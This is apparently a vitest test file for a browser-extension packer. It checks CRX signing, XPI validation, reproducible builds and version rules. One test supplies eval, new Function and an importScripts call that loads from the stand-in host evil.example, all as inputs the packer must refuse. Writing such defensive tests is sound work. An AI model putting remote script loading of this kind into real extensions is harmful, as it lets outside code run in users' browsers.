import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { unzipSync, zipSync } from 'fflate';
import { Value } from 'typebox/value';
import { describe, expect, it } from 'vitest';
import { packExtension } from '#installers/extension/package-files.ts';
import { ExtensionPackage } from '#protocol/extension-package.ts';
import { generateRsaKey, rsaPublicKey } from '#runtime/signature.ts';
import { tempFolder } from '#test/kit/temp-folder.ts';
import { idOf, readCrx } from './read-crx.ts';
import { standIn, standInId } from './stand-in.ts';

const pem = generateRsaKey();
const version = '1.2.3';
const namesIn = (zip: Uint8Array): readonly string[] => Object.keys(unzipSync(zip));
const textOf = (bytes: Uint8Array | undefined): string => Buffer.from(bytes ?? []).toString('utf8');

describe('a packed extension', () => {
  it('describes itself, and is what it says', async () => {
    using folder = tempFolder();
    const out = `/srv/a & b`;
    const { description, files } = await packExtension({
      sources: standIn(folder.path),
      version,
      pem,
      folder: out,
    });
    expect(Value.Check(ExtensionPackage, description)).toBe(true);
    expect(JSON.parse(textOf(files.get('extension.json')))).toEqual(description);
    expect([...files.keys()].at(-1)).toBe('extension.json');
    expect(description.firefox).toMatchObject({ id: standInId, signed: false });
    const inside = ['background.js', 'icons/app-16.png', 'manifest.json', 'page.css', 'page.html', 'page.js'];
    const crx = readCrx(Buffer.from(files.get(description.chromium.crx) ?? []));
    expect(namesIn(crx.zip).toSorted()).toEqual(inside);
    expect(namesIn(files.get(description.firefox.xpi) ?? new Uint8Array()).toSorted()).toEqual(inside);
    for (const family of ['chromium', 'firefox'])
      expect([...files.keys()].filter((name) => name.startsWith(`${family}/`)).toSorted()).toEqual(
        inside.map((name) => `${family}/${name}`),
      );
    expect(textOf(files.get('updates.xml'))).toContain(
      `codebase="file:///srv/a%20%26%20b/${description.chromium.crx}"`,
    );
    expect(textOf(files.get('web-host.cjs'))).toContain('process.stdin.pipe(process.stdout)');
  });

  it('has the same bytes each time, from any folder', async () => {
    using one = tempFolder();
    using other = tempFolder();
    const deep = join(other.path, 'deeper');
    mkdirSync(deep);
    const pack = (sources: string): ReturnType<typeof packExtension> =>
      packExtension({ sources: standIn(sources), version, pem, folder: '/srv' });
    expect((await pack(deep)).files).toEqual((await pack(one.path)).files);
  });

  it('is proven by its key, for Chromium', async () => {
    using folder = tempFolder();
    const { description, files } = await packExtension({
      sources: standIn(folder.path),
      version,
      pem,
      folder: '/srv',
    });
    const bytes = Buffer.from(files.get(description.chromium.crx) ?? []);
    const publicKey = rsaPublicKey(pem);
    const read = readCrx(bytes);
    expect(read.provenBy).toEqual([publicKey]);
    expect(read.id).toBe(idOf(publicKey));
    expect(description.chromium.id).toBe(read.id);
    const manifest = JSON.parse(textOf(unzipSync(read.zip)['manifest.json'])) as { key: string };
    expect(idOf(Buffer.from(manifest.key, 'base64'))).toBe(read.id);
    const changed = Buffer.from(bytes);
    changed[changed.length - 30] = (changed[changed.length - 30] ?? 0) ^ 1;
    expect(readCrx(changed).provenBy).toEqual([]);
  });

  it.each(['eval("1")', 'new Function("1")()', 'importScripts("https://evil.example/x.js")'])(
    'is refused where it would run other code: %s',
    async (code) => {
      using folder = tempFolder();
      const packing = packExtension({
        sources: standIn(folder.path, `globalThis.x = ${code};`),
        version,
        pem,
        folder: '/srv',
      });
      await expect(packing).rejects.toThrow(/not in the package/);
    },
  );

  it.each(['1', '1.2.3-beta', '1.2.3.4.5', '01.2', '1.65536', '0.0.0', '', '1.2.'])(
    'is refused for the version "%s", which no browser reads',
    async (wrong) => {
      using folder = tempFolder();
      const packing = packExtension({
        sources: standIn(folder.path),
        version: wrong,
        pem,
        folder: '/srv',
      });
      await expect(packing).rejects.toThrow(/is none for a browser/);
    },
  );

  it('says where a source does not compile', async () => {
    using folder = tempFolder();
    const sources = standIn(folder.path);
    writeFileSync(sources.page.script, 'const = 1;');
    await expect(packExtension({ sources, version, pem, folder: '/srv' })).rejects.toThrow(/page\.ts:1/);
  });
});

describe('an XPI that Mozilla signed', () => {
  const signed = (entries: Readonly<Record<string, string>>): Uint8Array =>
    zipSync(Object.fromEntries(Object.entries(entries).map(([name, text]) => [name, Buffer.from(text)])));
  const manifest = (id: string, of: string): string =>
    JSON.stringify({ version: of, browser_specific_settings: { gecko: { id } } });
  const rsa = { 'META-INF/mozilla.rsa': 'signature' };

  it('takes the place of ours', async () => {
    using folder = tempFolder();
    const signedXpi = signed({ 'manifest.json': manifest(standInId, version), ...rsa });
    const { description, files } = await packExtension({
      sources: standIn(folder.path),
      version,
      pem,
      folder: '/srv',
      signedXpi,
    });
    expect(description.firefox.signed).toBe(true);
    expect(files.get(description.firefox.xpi)).toBe(signedXpi);
  });

  it.each<[string, Uint8Array, RegExp]>([
    ['no ZIP', Buffer.from('PK no'), /no ZIP/],
    ['unsigned', signed({ 'manifest.json': manifest(standInId, version) }), /has not signed/],
    ['without manifest', signed(rsa), /no manifest/],
    ['of a broken manifest', signed({ 'manifest.json': '{', ...rsa }), /cannot be read/],
    ['of a manifest that is none', signed({ 'manifest.json': 'null', ...rsa }), /another extension/],
    ['of another id', signed({ 'manifest.json': manifest('x@y', version), ...rsa }), /another extension/],
    [
      'of another version',
      signed({ 'manifest.json': manifest(standInId, '1.2.4'), ...rsa }),
      /another version/,
    ],
    [
      'that unpacks to too much',
      signed({ 'manifest.json': manifest(standInId, version) + ' '.repeat(5_000_000), ...rsa }),
      /no manifest/,
    ],
  ])('is refused: %s', async (_what, signedXpi, why) => {
    using folder = tempFolder();
    const packing = packExtension({
      sources: standIn(folder.path),
      version,
      pem,
      folder: '/srv',
      signedXpi,
    });
    await expect(packing).rejects.toThrow(why);
  });
});
